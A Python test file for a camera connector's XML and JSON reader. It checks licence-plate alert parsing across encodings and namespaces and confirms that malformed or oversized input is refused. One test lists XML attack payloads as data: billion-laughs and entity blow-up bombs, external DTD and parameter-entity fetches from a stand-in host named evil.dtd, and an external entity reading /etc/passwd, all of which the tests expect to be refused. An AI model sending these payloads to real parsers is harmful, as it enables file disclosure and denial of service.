"""XML from the network: read in the encodings that cameras use, refused where it attacks."""

from __future__ import annotations

import contextlib
import time
from collections.abc import Callable

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors.isapi.document import MAX_BYTES, MAX_DEPTH, MAX_ELEMENTS, child, read_json, read_xml, text_of
from haulwatch.domain.errors import DeviceError
from tests.connectors.isapi.device import HIKVISION, ISAPI_ORG, alert


def code_of(read: Callable[[], object]) -> str:
    with pytest.raises(DeviceError) as raised:
        read()
    return raised.value.code


def plate_of(data: bytes, charset: str = "", encoding: str = "") -> str:
    return text_of(read_xml(data, charset, encoding=encoding)[1], "ANPR", "licensePlate")


@pytest.mark.parametrize("namespace", [HIKVISION, ISAPI_ORG, "http://www.std-cgi.com/ver10/XMLSchema", ""])
def test_namespaces_do_not_matter(namespace: str) -> None:
    name, tree = read_xml(alert(namespace=namespace).encode())
    assert (name, text_of(tree, "ANPR", "licensePlate")) == ("EventNotificationAlert", "黄浙E12345")


def test_prefixes_do_not_matter() -> None:
    name, tree = read_xml('<h:A xmlns:h="x"><h:ANPR><h:licensePlate> 浙E1 </h:licensePlate></h:ANPR></h:A>'.encode())
    assert (name, text_of(tree, "ANPR", "licensePlate")) == ("A", "浙E1")


@pytest.mark.parametrize("encoding", ["UTF-8", "GB2312", "gbk", "GB18030", "utf-16"])
def test_encodings_as_declared(encoding: str) -> None:
    assert plate_of(alert(declared=encoding).encode(encoding)) == "黄浙E12345"


def test_an_encoding_that_only_the_part_or_the_settings_say() -> None:
    bare = alert().split("\n", 1)[1]
    assert plate_of(bare.encode()) == "黄浙E12345"
    assert plate_of(b"\xef\xbb\xbf" + bare.encode()) == "黄浙E12345"
    assert plate_of(bare.encode("gbk"), charset="GB2312") == "黄浙E12345"
    assert plate_of(alert().encode("gbk"), encoding="gbk") == "黄浙E12345"


@pytest.mark.parametrize(
    "data", [alert().encode("gbk"), alert(declared="x-klingon").encode(), alert(declared="utf-7").encode()]
)
def test_another_encoding_than_declared_is_not_guessed(data: bytes) -> None:
    assert code_of(lambda: read_xml(data)) == "bad_encoding"


def test_comments_blanks_and_cdata_are_no_part_of_a_value() -> None:
    text = "<a><b>\n  <!-- ro, req, string -->A283KY77\n </b><c><![CDATA[x<y]]></c><d>1&lt;2&#x6d59;</d></a>"
    tree = read_xml(text.encode())[1]
    assert (text_of(tree, "b"), text_of(tree, "c"), text_of(tree, "d")) == ("A283KY77", "x<y", "1<2浙")


def test_what_is_not_there_is_empty() -> None:
    tree = read_xml(b"<a><b><c>1</c></b><d/></a>")[1]
    assert text_of(tree, "b") == text_of(tree, "d") == text_of(tree, "e") == text_of(tree, "d", "e") == ""
    assert child(tree, "x", "y") == {}


LAUGHS = "<!DOCTYPE a [<!ENTITY l0 'ha'>" + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
BLOW_UP = f"<!DOCTYPE a [<!ENTITY x '{'A' * 100_000}'>]><a>{'&x;' * 100_000}</a>"


@pytest.mark.parametrize(
    "text",
    [
        LAUGHS + "]><a>&l9;</a>",
        BLOW_UP,
        '<!DOCTYPE a SYSTEM "http://192.0.2.1/evil.dtd"><a/>',
        '<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]><a>&f;</a>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]><a/>',
        "<!DOCTYPE a><a/>",
    ],
    ids=["laughs", "blow-up", "external-dtd", "external-entity", "parameter-entity", "bare"],
)
def test_entities_are_never_expanded(text: str) -> None:
    began = time.perf_counter()
    assert code_of(lambda: read_xml(text.encode())) == "xml_dtd"
    assert time.perf_counter() - began < 1.0


@pytest.mark.parametrize("encoding", ["utf-16", "gb18030"])
def test_another_encoding_hides_no_dtd(encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
    assert code_of(lambda: read_xml(text.encode(encoding))) == "xml_dtd"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"<a>" * (MAX_DEPTH + 1), "bad_xml"),
        (b"<a>" * 200_000, "bad_xml"),
        (b"<a>" + b"<b/>" * (MAX_ELEMENTS + 1) + b"</a>", "bad_xml"),
        (b"<a><b>" + b"x" * 20_000 + b"</b></a>", "bad_xml"),
        (b"<a " + b" ".join(b'b%d="1"' % n for n in range(50_000)), "bad_xml"),
        (b"<a>" + b"x" * MAX_BYTES + b"</a>", "too_large"),
        (b"<a>&undefined;</a>", "bad_xml"),
        (b"<a></b>", "bad_xml"),
        (b"<a/><b/>", "bad_xml"),
        (b"<a>\x00</a>", "bad_xml"),
        (b"", "bad_xml"),
        (b"<a>\xff</a>", "bad_encoding"),
    ],
)
def test_what_is_too_much_or_not_xml_is_refused_at_once(data: bytes, code: str) -> None:
    began = time.perf_counter()
    assert code_of(lambda: read_xml(data)) == code
    assert time.perf_counter() - began < 2.0


def test_json_is_the_same_tree() -> None:
    tree = read_json(
        '{"eventType": "ANPR", "ANPR": {"licensePlate": "浙E1", "confidenceLevel": 97, "x": [1, {"y": true}]}}'.encode()
    )
    assert text_of(tree, "eventType") == "ANPR"
    assert text_of(tree, "ANPR", "confidenceLevel") == "97"
    assert text_of(tree, "ANPR", "x", "y") == "true"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"{", "bad_json"),
        (b"[1]", "bad_json"),
        (b'{"a": "\xff"}', "bad_json"),
        (b'{"a":' * 100_000, "bad_json"),
        (b'{"a":' * 40 + b"1" + b"}" * 40, "bad_json"),
        (b" " * (MAX_BYTES + 1), "too_large"),
    ],
)
def test_json_that_is_none_is_refused(data: bytes, code: str) -> None:
    assert code_of(lambda: read_json(data)) == code


@given(st.binary(max_size=300) | st.text(alphabet="<>/abc!&;[]?x='\"- ", max_size=120).map(str.encode))
def test_any_bytes_are_xml_or_the_one_error(data: bytes) -> None:
    for read in (read_xml, read_json):
        with contextlib.suppress(DeviceError):
            assert read(data) is not None


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(), lambda of: st.lists(of) | st.dictionaries(st.text(), of)
    )
)
def test_any_json_value_is_a_tree_or_the_one_error(value: object) -> None:
    with contextlib.suppress(DeviceError):
        assert set(read_json(msgspec.json.encode({"a": value}))) == {"a"}
